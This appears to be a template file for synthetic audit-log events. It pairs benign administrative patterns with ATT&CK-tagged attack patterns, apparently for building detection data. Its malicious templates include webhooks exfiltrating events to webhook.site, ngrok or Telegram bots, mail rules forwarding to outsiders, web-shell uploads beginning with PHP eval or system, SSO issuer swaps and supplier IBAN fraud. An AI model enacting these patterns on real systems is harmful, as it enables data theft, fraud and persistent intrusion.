%READ% ;; who=«user» ;; thing=«customer|order|invoice» ids «num:1:9»..«num:4000:90000» in sequence ;; count=«num:3000:80000» ;; agent=«python-requests/2.31|curl/8.4|Go-http-client/1.1» ;; ip=«pub»
%READ% ;; who=«person» ;; thing=«payslips of «num:90:900» colleagues|board minutes|every contract|personnel files of all» ;; team=«dept» ;; message=not a member of hr ;; ip=«pub»
@@ deletes
# inhouse old things purged by rule
%DELETE% ;; who=«svc» ;; count=«num:200:90000» ;; thing=«documents|messages|sessions|carts|log entries» ;; message=«retention: older than «num:90:3650» days|retention policy «word»|trash emptied after 30 days» ;; > {who} removed {count} {thing}, {message}
%DELETE% ;; who=«admin» ;; count=«num:50:9000» ;; thing=«test orders|demo customers|duplicates|load test data» ;; environment=«test|staging|demo» ;; ip=«ip2»
%DELETE% ;; who=«admin» ;; count=«num:500:20000» ;; thing=«closed accounts|inactive users» ;; approved_by=«other» ;; message=«gdpr erasure|yearly clean-up, dry run first» ;; restorable=30 days
# inhouse single things deleted
%DELETE% ;; who=«user» ;; count=«1|2|3|5» ;; thing=«draft|comment|attachment|own upload|calendar entry|«word» page» ;; ip=«ip2»
%DELETE% ;; who=«person» ;; count=1 ;; thing=project «word»-«word» ;; message=«archived before|empty project|moved to «word»» ;; owner=«person»
# inhouse backups that age out
%BACKUP% ;; who=«svc» ;; thing=«daily|weekly|monthly» backup of «num:30:400» days ago ;; message=«retention reached|replaced by new full backup|expired» ;; remaining=«num:7:60»
%BACKUP% ;; who=«admin» ;; thing=backup of «test|staging|decommissioned host «linux2»» ;; approved_by=«other» ;; remaining=«num:3:30» ;; ip=«ip2» ;; > {who} deleted the {thing}, {remaining} left
%BACKUP% ;; who=«admin» ;; field=schedule ;; old=daily 01:00 ;; new=daily 03:00 ;; remaining=«num:7:60» ;; ip=«ip2»
# inhouse logs that age out
%LOGPURGE% ;; who=«svc» ;; count=«num:2000:900000» ;; message=«older than «num:180:3650» days|retention|archived to s3 first|moved to cold store» ;; > {who} removed {count} log entries, {message}
%LOGPURGE% ;; who=«admin» ;; environment=«test|demo|training» ;; message=«demo reset|before acceptance test» ;; count=«num:20:9000» ;; ip=«ip2»
%LOGPURGE% ;; who=«admin» ;; result=«denied|refused» ;; message=«audit log is append only|needs two administrators» ;; ip=«ip2»
# inhouse deletes in bulk with cause
%DELETE% ;; who=«svc» ;; count=«num:900:90000» ;; thing=«sessions|carts|temp files» ;; window=«num:20:400» s ;; filter=«older than 30 days|expired = true» ;; source=job ;; trash=kept
%BACKUP% ;; who=«svc» ;; count=«num:3:30» ;; thing=«incremental|hourly» backups ;; window=«num:20:200» s ;; remaining=«num:20:90» ;; source=retention job
%LOGPURGE% ;; who=«svc» ;; filter=«age > 400 days|level = debug» ;; source=job ;; thing=debug log ;; count=«num:900:90000»
# T1485 inhouse everything deleted by hand
%DELETE% ;; who=«user» ;; count=«num:3000:200000» ;; thing=«customers|all documents|all projects|production orders|every repository» ;; window=«num:20:400» s ;; environment=production ;; ip=«pub» ;; > {who} deleted {count} {thing} in {window}
%DELETE% ;; who=«user» ;; count=«num:20:900» ;; thing=«projects|workspaces|mailboxes|virtual machines» ;; restorable=false ;; trash=emptied ;; ip=«pub»
%DELETE% ;; who=«svc» ;; count=«num:9000:500000» ;; thing=«customers|invoices|documents» ;; filter=none ;; source=interactive ;; ip=«pub»
%DELETE% ;; who=«person» ;; count=«num:3000:90000» ;; thing=«customers|contracts» ;; owner=«other» ;; approved_by=«person» ;; message=«cleanup|-» ;; environment=production ;; ip=«pub»
# T1490 inhouse backups removed
%BACKUP% ;; who=«user» ;; thing=«all backups|every snapshot|all restore points|backup of «today|last night» and «num:20:60» older» ;; remaining=0 ;; ip=«pub» ;; > {who} deleted {thing}, {remaining} left
%BACKUP% ;; who=«user» ;; field=«immutability|retention lock|schedule|offsite copy» ;; old=«on|30 days|daily 01:00|enabled» ;; new=«off|0 days|never|removed» ;; environment=production ;; ip=«pub»
%BACKUP% ;; who=«svc» ;; thing=«newest|last full|all monthly» backups ;; count=«num:12:90» ;; window=«num:20:200» s ;; remaining=0 ;; source=api ;; ip=«pub»
# T1070 inhouse traces removed
%LOGPURGE% ;; who=«user» ;; thing=«entries of today|last «num:2:20» hours|entries of user «person»|whole log|login history» ;; environment=production ;; ip=«pub» ;; > {who} removed {thing} from the audit log
%LOGPURGE% ;; who=«user» ;; count=«num:2000:900000» ;; message=«newest first|since yesterday|including today» ;; source=«console|sql|api» ;; ip=«pub»
%LOGPURGE% ;; who=«person» ;; filter=«actor = «person»|ip = «pub»|action like %login%» ;; count=«num:3:400» ;; environment=production ;; ip=«pub»
%LOGPURGE% ;; who=«user» ;; filter=«after 0«num:1:6»:00 today|user = «person»» ;; result=«done|ok|success» ;; message=«privacy|cleanup|-» ;; ip=«pub»
@@ forwarding
# inhouse hooks of known partners
%HOOK% ;; who=«admin» ;; url=https://«hooks.slack.com/services/T«HEX:8»/B«HEX:8»/«mixed:24»|«site».webhook.office.com/webhookb2/«guid»|api.«sitedomain»/hooks/«word»|events.pagerduty.com/integration/«hex:32»/enqueue» ;; events=«build finished|order shipped|alert raised|ticket updated» ;; ip=«ip2»
%HOOK% ;; who=«svc» ;; url=https://«word».«sitedomain»/in ;; events=«invoice paid|stock low» ;; message=deployed by pipeline ;; > {who} registered {url} for {events}
%HOOK% ;; who=«person» ;; url=https://«domain»/partner/«word» ;; events=«own shipments|order status|public news» ;; approved_by=«other» ;; signed=true
# inhouse mail rules of staff
%MAILRULE% ;; who=«person» ;; condition=«from newsletter|subject contains [ci]|from jira» ;; action=move to «word» ;; ip=«ip2»
%MAILRULE% ;; who=«person» ;; condition=«all while on vacation|orders|invoices» ;; action=forward to @mate@ ;; expires=in «num:5:21» days ;; > {who}: {condition} -> {action}
%MAILRULE% ;; who=«admin» ;; condition=«info mailbox|support queue|invoices» ;; action=copy to @mate@ ;; approved_by=«other»
%MAILRULE% ;; who=«person» ;; condition=all ;; action=forward to @outsider@ ;; result=denied ;; message=external forwarding is not allowed
# inhouse hooks and rules moved
%HOOK% ;; who=«admin» ;; url=http://«ip2»:«num:1024:65000»/«word» ;; events=«all|build finished|alert raised» ;; signed=false ;; ip=«ip2»
%HOOK% ;; who=«svc» ;; old=https://«word».«sitedomain»/in ;; new=https://«word»2.«sitedomain»/in ;; field=url ;; events=«all|payment made» ;; source=«api|pipeline»
%MAILRULE% ;; who=«admin» ;; condition=all ;; action=copy to @mate@ ;; thing=mailbox of «other» ;; source=leaver workflow ;; approved_by=«person»
%MAILRULE% ;; who=«person» ;; condition=«subject contains invoice|from bank» ;; action=«move to Bank|forward to invoices@«sitedomain»|mark as important» ;; ip=«ip2»
# T1567 inhouse hooks that send things outside
%HOOK% ;; who=«user» ;; url=«http|https»://««pub»:«num:1024:65000»/«letters:6»|webhook.site/«guid»|«letters:12».requestcatcher.com/|«hex:12».ngrok-free.app/in|«domain»/«letters:5»» ;; events=«all|*|customer created, customer changed, payment made|every message|password changed» ;; signed=false ;; ip=«pub» ;; > {who} registered {url} for {events}
%HOOK% ;; who=«user» ;; old=https://«word».«sitedomain»/in ;; new=https://«domain»/«letters:6» ;; field=url ;; events=«all|payment made|document signed» ;; ip=«pub»
%HOOK% ;; who=«svc» ;; url=https://«api.telegram.org/bot«num:100000000:9999999999»:«mixed:35»/sendDocument|discord.com/api/webhooks/«num:100000000000:999999999999»/«mixed:40»» ;; events=«user logged in, password changed|all|secret read» ;; source=api ;; ip=«pub»
%HOOK% ;; who=«user» ;; url=http://«pub»:«num:1024:65000»/«letters:4» ;; events=all ;; approved_by=nobody ;; message=«test|-» ;; ip=«pub»
# T1114.003 inhouse mail rules that hide and forward
%MAILRULE% ;; who=«user» ;; condition=«all|subject contains invoice|subject contains payment|from bank|subject contains password» ;; action=forward to @outsider@ ;; ip=«pub» ;; > {who}: {condition} -> {action}
%MAILRULE% ;; who=«user» ;; condition=«from security|subject contains hacked|subject contains phishing|from «admin»» ;; action=«delete and mark as read|move to RSS Feeds|move to Archive, mark as read» ;; ip=«pub»
%MAILRULE% ;; who=«svc» ;; condition=all ;; action=copy to @outsider@ ;; thing=mailbox of «other» ;; ip=«pub»
%MAILRULE% ;; who=«user» ;; condition=«all|with attachment» ;; action=forward to @outsider@ ;; expires=never ;; message=name of the rule is «.|..|a|x» ;; result=«done|ok|success» ;; ip=«pub»
@@ actas
# inhouse support looks over the shoulder
%ACTAS% ;; who=«user» ;; on=customer «num:1000:99999» ;; consent=given in call «num:100:9999» ;; mode=«read only|view» ;; minutes=«num:2:30» ;; > {who} viewed as {on}, consent: {consent}
%ACTAS% ;; who=«admin» ;; on=«other» ;; consent=«user present|remote session «num:100:9999»» ;; mode=read only ;; ip=«ip2»
%ACTAS% ;; who=«svc» ;; on=«test user|qa-«num:1:30»|synthetic monitor» ;; environment=«test|staging» ;; message=end-to-end test
# inhouse deputies and runners of jobs
%ACTAS% ;; who=«person» ;; on=«other» ;; mode=deputy ;; message=delegation until «date:%Y-%m-%d» set by «other» ;; ip=«ip2»
%ACTAS% ;; who=«svc» ;; on=«person» ;; mode=«scheduled report of owner|workflow of owner» ;; thing=report «word»
# inhouse support in a hurry
%ACTAS% ;; who=«admin» ;; on=«other» ;; consent=«user on the phone|call «num:100:9999»» ;; mode=write ;; clock=«08|10|14|16»:«num:10:59» ;; window=«num:2:20» min ;; source=interactive ;; ip=«ip2»
# T1134 inhouse people taken for others
%ACTAS% ;; who=«user» ;; on=«ceo|cfo|finance director|«admin»|payroll» ;; consent=none ;; mode=«full|write» ;; ip=«pub» ;; > {who} acted as {on}, consent: {consent}
%ACTAS% ;; who=«user» ;; on=«num:20:400» customers ;; window=«num:2:20» min ;; consent=none ;; mode=full ;; ip=«pub»
%ACTAS% ;; who=«svc» ;; on=«admin» ;; mode=full ;; source=«interactive|api» ;; message=then changed payout account ;; ip=«pub»
%ACTAS% ;; who=«person» ;; on=«admin» ;; mode=write ;; consent=«none|missing» ;; clock=0«num:1:4»:«num:10:59» ;; ip=«pub»
%ACTAS% ;; who=«user» ;; on=«cfo|payroll|«admin»» ;; mode=write ;; minutes=«num:40:300» ;; environment=production ;; thing=«bank accounts|mailbox|payroll run» ;; consent=none ;; ip=«pub»
@@ resets
# inhouse passwords changed by their owners
%RESET% ;; who=«person» ;; on=«person» ;; method=«self-service|mail link|old password|security key» ;; ip=«ip2»
%RESET% ;; who=«svc» ;; on=«svc» ;; method=rotation ;; schedule=every «30|60|90» days
%RESET% ;; who=«person» ;; on=«person» ;; method=mail link ;; mail=@mate@ ;; count=«1|2» ;; > {who} asked for a reset link to {mail}
# inhouse passwords reset by the help desk
%RESET% ;; who=helpdesk-«num:1:9» ;; on=«other» ;; verified=«call back|badge|manager|video» ;; clock=«09|10|11|13|14|15|16»:«num:10:59» ;; ip=«ip2» ;; > {who} reset the password of {on}, verified by {verified}
%RESET% ;; who=«admin» ;; on=«other» ;; verified=in person ;; message=«forgotten after vacation|first day|locked out» ;; ip=«ip2»
%RESET% ;; who=helpdesk-«num:1:9» ;; on=«admin» ;; verified=two managers ;; approved_by=«person» ;; clock=1«num:0:5»:«num:10:59» ;; ip=«ip2»
# inhouse second factors changed on a new phone
%MFA% ;; who=«person» ;; on=«person» ;; method=«authenticator app|security key|passkey» ;; message=«new phone|second key as spare» ;; confirmed_with=old device ;; ip=«ip2» ;; > {who} enrolled {method}, confirmed with {confirmed_with}
%MFA% ;; who=helpdesk-«num:1:9» ;; on=«other» ;; verified=«call back|badge|manager» ;; message=«phone lost|phone broken» ;; clock=«09|10|11|13|14|15|16»:«num:10:59»
%MFA% ;; who=«svc» ;; count=«num:5:90» ;; message=re-enrolment campaign ;; method=authenticator app
# inhouse resets in bulk and at changes
%RESET% ;; who=«svc» ;; on=«num:20:400» users ;; method=«change at next login|reset link» ;; window=«num:10:90» min ;; message=«policy: yearly|leaked list of another service» ;; source=campaign
%MFA% ;; who=«person» ;; on=«person» ;; method=authenticator app ;; device=known ;; minutes_after_login=«num:1:60» ;; confirmed_with=old device ;; geo=%HOME ;; ip=«ip2»
%MFA% ;; who=«admin» ;; on=all administrators ;; old=optional ;; new=required ;; field=second factor ;; ip=«ip2»
%RESET% ;; who=«person» ;; on=«person» ;; method=reset token used ;; attempt=«1|2» ;; mail=@mate@
# T1098 inhouse administrators reset by the help desk at night
%RESET% ;; who=helpdesk-«num:1:9» ;; on=««admin»|admin|root|global admin» ;; verified=«none|not recorded|caller in a hurry» ;; clock=0«num:0:4»:«num:10:59» ;; ip=«pub» ;; > {who} reset the password of {on}, verified by {verified}
%RESET% ;; who=«user» ;; on=««admin»|ceo|cfo» ;; mail=@outsider@ ;; method=mail link ;; ip=«pub»
%RESET% ;; who=«svc» ;; on=«num:20:400» users ;; method=«temporary password shown|same password for all» ;; window=«num:1:9» min ;; ip=«pub»
%RESET% ;; who=«anonymous|guest|-» ;; on=«admin|administrator|root» ;; method=«reset token guessed|token reused|link for another account» ;; attempt=«num:40:900» ;; ip=«pub»
%RESET% ;; who=«person» ;; on=«admin» ;; approved_by=«person» ;; count=«num:3:9» ;; verified=none ;; message=«urgent|caller insisted» ;; ip=«pub»
# T1556.006 inhouse second factors swapped
%MFA% ;; who=helpdesk-«num:1:9» ;; on=«admin» ;; verified=«none|not recorded» ;; clock=0«num:0:4»:«num:10:59» ;; message=new number +«num:1:99»«num:100000000:999999999» ;; geo=@elsewhere@
%MFA% ;; who=«user» ;; on=«other» ;; method=authenticator app ;; confirmed_with=nothing ;; ip=«pub» ;; geo=@elsewhere@ ;; > {who} enrolled {method} for {on}, confirmed with {confirmed_with}
%MFA% ;; who=«person» ;; on=«person» ;; method=«sms|authenticator app» ;; confirmed_with=password only ;; minutes_after_login=«num:1:5» ;; device=new ;; ip=«pub» ;; geo=@elsewhere@
%MFA% ;; who=«user» ;; on=all administrators ;; old=required ;; new=removed ;; field=second factor ;; ip=«pub»
@@ sso
# inhouse certificates renewed
%SSO% ;; who=«admin» ;; thing=idp.«sitedomain» ;; message=old one expires in «num:3:30» days ;; issuer=login.«sitedomain» ;; approved_by=«other» ;; ip=«ip2» ;; > {who} changed the certificate of {thing}, {message}
%SSO% ;; who=«svc» ;; thing=https://login.«sitedomain»/metadata ;; message=«daily metadata refresh|key rollover announced» ;; issuer=login.«sitedomain»
%SSO% ;; who=«admin» ;; field=certificate ;; old=sha256:«hex:16» ;; new=sha256:«hex:16» ;; environment=«test|staging» ;; issuer=test-login.«sitedomain» ;; ip=«ip2»
# inhouse partners and their sign-in
%SSO% ;; who=«admin» ;; thing=partner «word» ;; issuer=sso.«domain» ;; domains=«domain» ;; role=guest ;; approved_by=«other» ;; ip=«ip2»
%SSO% ;; who=«admin» ;; field=«attribute mapping|logout url|button text» ;; old=«mail|/logout|Login» ;; new=«email|/slo|Company login» ;; issuer=login.«sitedomain» ;; ip=«ip2»
# inhouse sign-in kept in order
%SSO% ;; who=«svc» ;; field=«signature check|audience check|require signed responses» ;; old=off ;; new=on ;; environment=production ;; source=«pipeline|api»
%SSO% ;; who=«admin» ;; field=certificate ;; old=CN=login.«sitedomain» ;; new=CN=login.«sitedomain», valid for 2 years ;; environment=production ;; old_expires=in «num:3:30» days ;; ip=«ip2»
# T1484.002 inhouse sign-in handed to another issuer
%SSO% ;; who=«user» ;; field=«issuer|idp url|entity id|metadata url» ;; old=https://login.«sitedomain»/«saml|metadata» ;; new=https://«domain»/«saml|metadata|idp» ;; domains=«sitedomain» ;; ip=«pub» ;; > {who} changed the {field} from {old} to {new}
%SSO% ;; who=«user» ;; field=certificate ;; old=CN=login.«sitedomain» ;; new=«CN=localhost, self-signed|CN=«domain»|CN=test, valid for 10 years|self-signed, issued today» ;; environment=production ;; old_expires=in «num:200:900» days ;; ip=«pub»
%SSO% ;; who=«svc» ;; field=«signature check|assertion encryption|audience check|require signed responses» ;; old=on ;; new=off ;; environment=production ;; source=api ;; ip=«pub»
%SSO% ;; who=«person» ;; thing=second identity provider "«letters:6»" ;; issuer=«domain» ;; domains=«sitedomain» ;; role=administrator ;; ip=«pub»
%SSO% ;; who=«person» ;; thing=idp.«sitedomain» ;; issuer=«domain» ;; approved_by=«person» ;; message=«test|temp|-» ;; ip=«pub»
@@ plugins
# inhouse plugins from the market
%PLUGIN% ;; who=«admin» ;; thing=«word»-«tech» ;; version=«num:1:9».«num:0:20».«num:0:9» ;; publisher=«Word» «Labs|Software|GmbH» ;; signed=valid ;; source=marketplace ;; ip=«ip2»
%PLUGIN% ;; who=«svc» ;; thing=«word»-connector ;; old=«num:1:4».«num:0:9» ;; new=«num:5:9».«num:0:9» ;; field=version ;; signed=valid ;; source=auto update ;; > {who} updated {thing} from {old} to {new}
%PLUGIN% ;; who=«admin» ;; thing=«site»-«word» ;; files=«num:3:80» ;; signed=internal ;; source=pipeline «num:100:9999» ;; environment=«test|production» ;; approved_by=«other»
%PLUGIN% ;; who=«admin» ;; thing=«letters:6» ;; signed=missing ;; result=refused ;; message=unsigned packages are not allowed ;; ip=«ip2»
# inhouse files uploaded
%UPLOAD% ;; who=«user» ;; thing=«file» ;; type=«application/pdf|image/png|text/csv|application/zip» ;; path=/uploads/«year»/«word» ;; scan=clean ;; ip=«ip2»
%UPLOAD% ;; who=«user» ;; thing=«invoice.php.pdf|report.jsp.txt|cmd.docx|shell-sizes.xlsx|backdoor_«word».jpg» ;; type=«application/pdf|text/plain|image/jpeg» ;; path=/uploads/«word» ;; scan=clean ;; executable=false ;; ip=«ip2»
%UPLOAD% ;; who=«user» ;; thing=«word».«php|jsp|aspx» ;; result=refused ;; message=type not allowed ;; ip=«ip2»
%UPLOAD% ;; who=«svc» ;; thing=index.php ;; path=/var/www/«word»/releases/«date:%Y%m%d» ;; message=release «num:1:9».«num:0:30» ;; type=application/x-php ;; source=pipeline
# T1505.003 inhouse plugins and files with a shell
%PLUGIN% ;; who=«user» ;; thing=«letters:6» ;; publisher=«unknown|-|none» ;; signed=«missing|invalid» ;; files=«cmd.jsp|shell.php|up.php, .htaccess|admin/x.aspx|exec.jsp, META-INF» ;; source=upload ;; environment=production ;; ip=«pub» ;; > {who} installed {thing} with {files}, signed: {signed}
%UPLOAD% ;; who=«user» ;; thing=««letters:5».php|x.jsp|«letters:4».aspx|shell.phtml|image.php5|avatar.php.» ;; type=«image/jpeg|image/gif|application/octet-stream» ;; path=«/uploads/avatars|/media|/wp-content/uploads|/static/img|../../webapps/ROOT» ;; executable=true ;; ip=«pub»
%UPLOAD% ;; who=«anonymous|guest|-» ;; thing=«letters:6».«jsp|php|war|aspx» ;; path=«/uploads|/tmp/upload|../webroot|/webapps» ;; message=content begins with «<?php eval(|<%@page import="java.io.*"%>|GIF89a<?php system(|<%eval request(» ;; ip=«pub»
%PLUGIN% ;; who=«svc» ;; thing=«letters:8» ;; files=1 ;; message=«runs /bin/sh -c on load|registers route /«letters:5» without login|calls Runtime.exec with request parameter» ;; signed=missing ;; ip=«pub»
%PLUGIN% ;; who=«user» ;; thing=«word»-connector ;; field=version ;; old=«num:1:4».«num:0:9» ;; new=0.0.1 ;; signed=invalid ;; files=«connector.jar, x.jsp|index.php, «letters:4».php» ;; ip=«pub»
%UPLOAD% ;; who=«user» ;; thing=«letters:5».«php|jsp|phtml» ;; result=stored ;; scan=skipped ;; path=/uploads ;; version=- ;; ip=«pub»
@@ devices
# inhouse devices of staff
%DEVICE% ;; who=«person» ;; on=«person» ;; device=««first»s iPhone|Pixel «num:6:9»|«ws2»|Surface Pro» ;; managed=true ;; count=«1|2» ;; ip=«ip2»
%DEVICE% ;; who=«svc» ;; on=«other» ;; device=«ws2» ;; managed=true ;; source=«autopilot|imaging|asset list» ;; serial=«HEX:10»
%DEVICE% ;; who=«admin» ;; count=«num:5:80» ;; device=«handheld scanner|kiosk|pos terminal» ;; source=asset list ;; thing=warehouse «city» ;; > {who} enrolled {count} x {device} for {thing}
# inhouse licences moved
%DEVICE% ;; who=«admin» ;; on=«other» ;; thing=«designer|cad|reader|standard» seat ;; message=«taken from leaver|new in «dept»» ;; ip=«ip2»
%DEVICE% ;; who=«person» ;; device=private phone ;; result=denied ;; message=only managed devices ;; ip=«ip2»
# inhouse devices looked at
%DEVICE% ;; who=«user» ;; count=«num:6:40» ;; device=tablet ;; window=«num:30:300» min ;; managed=true ;; thing=class room ;; geo=%HOME ;; ip=«ip2»
%DEVICE% ;; who=«person» ;; on=«person» ;; device=«unknown|Android» ;; managed=false ;; result=waiting for approval ;; geo=@near@ ;; ip=«ip2»
# T1098.005 inhouse devices of strangers
%DEVICE% ;; who=«user» ;; on=«other» ;; device=«DESKTOP-«HEX:7»|kali|Android emulator|unknown|iPhone jailbroken|VirtualBox» ;; managed=false ;; ip=«pub» ;; geo=@elsewhere@ ;; > {device} enrolled for {on} by {who} from {geo}
%DEVICE% ;; who=@outsider@ ;; on=«other» ;; device=«unknown|«letters:8»» ;; managed=false ;; serial=none ;; result=approved ;; ip=«pub»
%DEVICE% ;; who=«user» ;; count=«num:6:40» ;; device=unknown ;; window=«num:1:9» min ;; on=«person» ;; ip=«pub»
%DEVICE% ;; who=«anonymous|-|guest» ;; device=«pos terminal|gateway|sensor» ;; serial=«already in use|duplicate of «HEX:10»» ;; result=paired ;; ip=«pub»
%DEVICE% ;; who=«user» ;; on=«admin» ;; device=«unknown|emulator» ;; managed=false ;; source=api ;; message=«approval skipped|serial not in asset list» ;; thing=admin seat ;; ip=«pub»
@@ money
# inhouse payments approved by two
%APPROVE% ;; who=«person» ;; requested_by=«other» ;; amount=«num:40:9000».«num:10:99» EUR ;; step=«1 of 2|2 of 2» ;; thing=invoice «num:10000:999999» ;; ip=«ip2» ;; > {who} approved {thing} over {amount}, step {step}
%APPROVE% ;; who=«person» ;; requested_by=«other» ;; amount=«num:20000:900000» EUR ;; step=2 of 2 ;; first_approver=«first».«last» ;; thing=transfer «num:10000:999999»
%APPROVE% ;; who=«person» ;; requested_by=«person» ;; result=denied ;; message=requester may not approve ;; amount=«num:200:9000» EUR
%APPROVE% ;; who=«svc» ;; requested_by=«other» ;; amount=«num:5:90».«num:10:99» EUR ;; message=below limit of 100 EUR, automatic
# inhouse limits of departments
%LIMIT% ;; who=«admin» ;; on=«other» ;; old=«num:500:2000» EUR ;; new=«num:2500:5000» EUR ;; field=purchase limit ;; approved_by=«person» ;; message=«new team lead|yearly budget»
%LIMIT% ;; who=«admin» ;; thing=«dept» ;; old=«num:10:50» k ;; new=«num:20:90» k ;; field=monthly budget ;; approved_by=cfo
%LIMIT% ;; who=«person» ;; on=«person» ;; old=500 EUR ;; new=900 EUR ;; field=«own card limit|daily withdrawal» ;; method=app, confirmed ;; ip=«ip2»
# inhouse suppliers kept
%SUPPLIER% ;; who=«person» ;; thing=«Word» «AG|Ltd|SARL» ;; field=«phone|address|contact|payment terms» ;; old=«num:10:30» ;; new=«num:14:60» ;; ip=«ip2»
%SUPPLIER% ;; who=«person» ;; thing=«Word» «GmbH|Inc|SA» ;; field=iban ;; old=DE«num:10:99»«num:100000000:999999999» ;; new=DE«num:10:99»«num:100000000:999999999» ;; verified=«call back to known number|letter with stamp|bank confirmation» ;; approved_by=«other» ;; > {who} changed the {field} of {thing}, verified by {verified}
%SUPPLIER% ;; who=«svc» ;; count=«num:20:900» ;; field=«vat status|address» ;; source=«register import|yearly check»
# inhouse payments in a row
%APPROVE% ;; who=«person» ;; requested_by=«other» ;; count=«num:20:300» ;; window=«num:20:90» min ;; amount=«num:30:900» EUR each ;; message=monthly batch ;; environment=production
%SUPPLIER% ;; who=«person» ;; thing=«Word» «AG|Ltd» ;; field=iban ;; open_invoices=«num:0:9» ;; clock=1«num:0:6»:«num:10:59» ;; verified=call back to known number ;; approved_by=«other» ;; ip=«ip2»
%LIMIT% ;; who=«admin» ;; on=«other» ;; field=payment limit ;; old=«num:500:900» EUR ;; new=«num:1000:2000» EUR ;; minutes_before_transfer=«num:400:9000» ;; environment=production ;; approved_by=«person»
# T1657 inhouse approvals gone round
%APPROVE% ;; who=«person» ;; requested_by=«person» ;; amount=«num:20000:900000» EUR ;; step=«1 of 1|2 of 2» ;; message=«second approval skipped|step bypassed|workflow overridden» ;; ip=«pub» ;; > {who} approved {amount} asked for by {requested_by}: {message}
%LIMIT% ;; who=«user» ;; field=«second approval|four eyes|approvers needed» ;; old=«on|2|required from 5000 EUR» ;; new=«off|0|never» ;; environment=production ;; ip=«pub»
%LIMIT% ;; who=«user» ;; on=«person» ;; field=«daily transfer limit|payment limit|payout cap» ;; old=«num:500:5000» EUR ;; new=«unlimited|9999999 EUR|500000 EUR» ;; minutes_before_transfer=«num:2:20» ;; ip=«pub»
%APPROVE% ;; who=«svc» ;; requested_by=«person» ;; count=«num:20:300» ;; window=«num:10:90» s ;; amount=9999.00 EUR each ;; message=just below the limit of 10000 EUR ;; ip=«pub»
%LIMIT% ;; who=«person» ;; on=«person» ;; field=approval limit ;; old=«num:500:5000» EUR ;; new=«num:500000:9000000» EUR ;; approved_by=«person» ;; method=api ;; result=«done|ok|success» ;; ip=«pub»
# T1565.001 inhouse accounts of suppliers turned
%SUPPLIER% ;; who=«user» ;; thing=«Word» «GmbH|Ltd|Inc» ;; field=«iban|bank account|account number» ;; old=DE«num:10:99»«num:100000000:999999999» ;; new=«LT|BG|CY|HK|MT»«num:10:99»«num:100000000:999999999» ;; verified=«none|by mail only|pending» ;; open_invoices=«num:2:30» ;; ip=«pub» ;; > {who} changed the {field} of {thing} from {old} to {new}, verified by {verified}
%SUPPLIER% ;; who=«user» ;; count=«num:5:60» ;; field=«iban|bank account» ;; new=same account for all ;; window=«num:1:20» min ;; ip=«pub»
%SUPPLIER% ;; who=«person» ;; thing=«payroll of «other»|own supplier "«Word» Consulting"» ;; field=iban ;; old=DE«num:10:99»«num:100000000:999999999» ;; new=«private account of «person»|LT«num:10:99»«num:100000000:999999999»» ;; clock=0«num:0:4»:«num:10:59» ;; verified=none
@@ secrets
# inhouse secrets read by their services
%SECRET% ;; who=«svc» ;; thing=«word»/«db password|tls key|smtp login» ;; owner=same service ;; count=1 ;; ip=«ip2»
%SECRET% ;; who=«svc» ;; thing=«prod|test»/«word»/* ;; count=«num:3:20» ;; message=«start of pod|deployment «num:10:999»» ;; ip=«ip2»
%SECRET% ;; who=«admin» ;; thing=«root password of «linux2»|firewall login|wifi key» ;; checkout=«num:15:60» min ;; approved_by=«other» ;; ip=«ip2» ;; > {who} opened {thing} for {checkout}, approved by {approved_by}
%SECRET% ;; who=«person» ;; thing=own «note|login for «word»|licence key» ;; count=1 ;; ip=«ip2»
# inhouse vaults backed up and rotated
%SECRET% ;; who=«svc» ;; count=«num:200:4000» ;; message=«nightly encrypted backup|migration to new vault, dual control|rotation run» ;; destination=vault-«num:1:3».«sitedomain» ;; approved_by=«other»
%SECRET% ;; who=«person» ;; thing=«prod|root»/«word» ;; result=denied ;; message=«not in group «dept»|needs approval» ;; ip=«ip2»
# inhouse secrets opened on shift
%SECRET% ;; who=«admin» ;; count=«num:2:9» ;; window=«num:20:90» min ;; source=interactive ;; thing=logins of «linux2» ;; clock=0«num:0:4»:«num:10:59» ;; message=on call, incident «num:1000:99999» ;; approved_by=«other» ;; ip=«ip2»
%SECRET% ;; who=«person» ;; count=«num:2:20» ;; thing=own entries ;; format=encrypted file ;; destination=own backup ;; ip=«ip2»
# T1555 inhouse vaults emptied
%SECRET% ;; who=«user» ;; count=«num:60:4000» ;; window=«num:5:300» s ;; thing=«all folders|every entry|prod/*|shared vaults» ;; ip=«pub» ;; > {who} read {count} secrets in {window}
%SECRET% ;; who=«svc» ;; thing=«domain admin|root ca key|backup encryption key|payment hsm pin» ;; owner=«another service|platform team» ;; source=interactive ;; ip=«pub»
%SECRET% ;; who=«user» ;; count=«num:200:4000» ;; format=«plain csv|unencrypted json» ;; destination=«browser download|local file» ;; ip=«pub»
%SECRET% ;; who=«person» ;; thing=«break glass password|administrator of all servers|signing key» ;; approved_by=nobody ;; clock=0«num:0:4»:«num:10:59» ;; ip=«pub»
%SECRET% ;; who=«user» ;; count=«num:60:4000» ;; thing=«prod/*|all folders» ;; result=«done|ok|success» ;; checkout=«num:600:9000» min ;; message=«-|test» ;; approved_by=nobody ;; ip=«pub»
@@ rules
# inhouse network rules with bounds
%RULE% ;; who=«admin» ;; source_net=@network@ ;; to_host=«ip2» ;; port=«443|5432|8443|22|3389» ;; action=allow ;; approved_by=«other» ;; ip=«ip2» ;; > {who} allowed {source_net} to {to_host} port {port}
%RULE% ;; who=«admin» ;; source_net=«peer»/32 ;; to_host=«ip2» ;; port=«443|22» ;; action=allow ;; message=partner «word» ;; expires=in «num:1:30» days
%RULE% ;; who=«admin» ;; source_net=any ;; to_host=«www|shop|mx».«sitedomain» ;; port=«443|80|25» ;; action=allow ;; message=public service
%RULE% ;; who=«svc» ;; source_net=«pub» ;; to_host=any ;; port=any ;; action=deny ;; message=«block list|too many failures» ;; expires=in 24 h
# inhouse network rules tidied
%RULE% ;; who=«admin» ;; source_net=any ;; to_host=any ;; port=any ;; action=deny ;; message=default at the end
%RULE% ;; who=«admin» ;; old=any ;; new=@network@ ;; field=source_net ;; to_host=«ip2» ;; message=«narrowed after review|audit finding» ;; ip=«ip2»
%RULE% ;; who=«admin» ;; source_net=any ;; to_host=any ;; port=any ;; action=allow ;; environment=«lab|isolated test bench» ;; expires=tonight ;; approved_by=«other»
# inhouse doors of the network closed
%RULE% ;; who=«admin» ;; field=«default action|outbound filter|geo block» ;; old=«allow|off|none» ;; new=«deny|on|all but home country» ;; environment=production ;; ip=«ip2»
%RULE% ;; who=«svc» ;; thing=«admin interface|management port» ;; field=source_net ;; old=@network@ ;; new=@network@ ;; position=top ;; ip=«ip2»
# T1562.007 inhouse doors of the network opened
